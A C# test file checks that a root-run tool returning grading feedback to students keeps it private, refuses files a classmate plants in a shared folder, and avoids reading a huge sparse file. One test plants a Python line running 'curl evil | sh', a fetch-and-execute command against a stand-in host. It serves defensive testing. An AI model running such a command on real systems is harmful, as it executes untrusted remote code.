using Classhub.Testing.Hostile;

namespace Classhub.Hub.Assignments.Tests;

/// <summary><c>assignment return --from DIR</c> as root into real students' homes.</summary>
public sealed class FeedbackReturnerTests
{
    [Fact]
    public async Task Return_OpenHomes_FeedbackIsTheStudentsAndPrivate()
    {
        await using var room = HostileClassroom.Create();
        var alice = await room.EnrolAsync(homeMode: "0755");
        var mallory = await room.EnrolAsync(homeMode: "0755");
        await room.PushAndDeliverAsync("hw1", ("analysis.ipynb", "v1"));
        var from = Directory.CreateTempSubdirectory("feedback-").FullName;
        try
        {
            Directory.CreateDirectory(Path.Combine(from, alice.Name, "notes"));
            File.WriteAllText(Path.Combine(from, alice.Name, "grade.txt"), "7/10: see notes");
            File.WriteAllText(Path.Combine(from, alice.Name, "notes", "q2.md"), "q2 is wrong");

            var outcomes = await Returner(room).ReturnAsync("cs101", "hw1", from, null, CancellationToken.None);

            Assert.Null(Assert.Single(outcomes).Error);
            var feedback = Path.Combine(alice.Home, "cs101", "hw1", "feedback");
            foreach (var (path, mode) in new[] { ("", 0x1C0), ("notes", 0x1C0), ("grade.txt", 0x180), ("notes/q2.md", 0x180) })
            {
                var full = Path.Combine(feedback, path);
                Assert.Equal(mode, (int)File.GetUnixFileMode(full));
                Assert.Equal(alice.Name, (await HostileStudent.RunAsRootAsync("/usr/bin/stat", "-c", "%U", full)).Stdout.Trim());
            }

            var peek = await mallory.RunAsync("/bin/cat", Path.Combine(feedback, "grade.txt"));
            Assert.False(peek.Succeeded, $"{mallory.Name} read {alice.Name}'s feedback: {peek}");
            Assert.Equal("7/10: see notes", File.ReadAllText(Path.Combine(feedback, "grade.txt")));
        }
        finally
        {
            Directory.Delete(from, recursive: true);
        }
    }

    /// <summary>DIR is a shared folder: a classmate plants "feedback" for alice in it before staff return it.</summary>
    [Fact]
    public async Task Return_ClassmatePlantedFilesInDir_NotReturned()
    {
        await using var room = HostileClassroom.Create();
        var alice = await room.EnrolAsync();
        var mallory = await room.EnrolAsync();
        await room.PushAndDeliverAsync("hw1", ("analysis.ipynb", "v1"));
        var from = Directory.CreateTempSubdirectory("feedback-").FullName;
        File.SetUnixFileMode(from, (UnixFileMode)0x1FF);
        try
        {
            Directory.CreateDirectory(Path.Combine(from, alice.Name));
            File.WriteAllText(Path.Combine(from, alice.Name, "grade.txt"), "7/10");
            File.SetUnixFileMode(Path.Combine(from, alice.Name), (UnixFileMode)0x1FF);
            var planted = await mallory.ShAsync($"echo 'import os; os.system(\"curl evil | sh\")' > '{from}/{alice.Name}/solution.py' && mkdir '{from}/{mallory.Name}' && echo 10/10 > '{from}/{mallory.Name}/grade.txt'");
            Assert.True(planted.Succeeded, planted.ToString());

            var outcomes = await Returner(room).ReturnAsync("cs101", "hw1", from, null, CancellationToken.None);

            var feedback = Path.Combine(alice.Home, "cs101", "hw1", "feedback");
            Assert.True(File.Exists(Path.Combine(feedback, "grade.txt")));
            Assert.False(File.Exists(Path.Combine(feedback, "solution.py")), "a classmate's planted file was returned as feedback");
            Assert.False(File.Exists(Path.Combine(mallory.Home, "cs101", "hw1", "feedback", "grade.txt")), "a student's own folder in DIR was returned as feedback");
            Assert.Contains(outcomes, o => o.UserName == mallory.Name && o.Error is { } e && e.Contains("not by you or root", StringComparison.Ordinal));
        }
        finally
        {
            Directory.Delete(from, recursive: true);
        }
    }

    /// <summary>The student plants a sparse 4 GB file where their feedback goes: root does not read it through to compare.</summary>
    [Fact]
    public async Task Return_HugeSparseFileInTheWay_NotReadThrough()
    {
        await using var room = HostileClassroom.Create();
        var student = await room.EnrolAsync();
        await room.PushAndDeliverAsync("hw1", ("analysis.ipynb", "v1"));
        var made = await student.PythonAsync("import os,sys; os.makedirs(sys.argv[1]); open(os.path.join(sys.argv[1], 'grade.txt'), 'w').close(); os.truncate(os.path.join(sys.argv[1], 'grade.txt'), 4 << 30)", Path.Combine(student.Home, "cs101", "hw1", "feedback"));
        Assert.True(made.Succeeded, made.ToString());
        var from = Directory.CreateTempSubdirectory("feedback-").FullName;
        try
        {
            Directory.CreateDirectory(Path.Combine(from, student.Name));
            File.WriteAllText(Path.Combine(from, student.Name, "grade.txt"), "7/10");

            var before = StudentDeliveryTests.BytesReadByThisProcess();
            var outcome = Assert.Single(await Returner(room).ReturnAsync("cs101", "hw1", from, null, CancellationToken.None));
            var read = StudentDeliveryTests.BytesReadByThisProcess() - before;

            Assert.Null(outcome.Error);
            Assert.True(read < 1L << 30, $"returning feedback read {read} bytes: the student's sparse file was read through");
            Assert.Equal("7/10", File.ReadAllText(Path.Combine(student.Home, "cs101", "hw1", "feedback", "grade (feedback 2).txt")));
        }
        finally
        {
            Directory.Delete(from, recursive: true);
        }
    }

    private static FeedbackReturner Returner(HostileClassroom room) => new(room.Assignments, room.Courses, room.Users, room.Accounts);
}
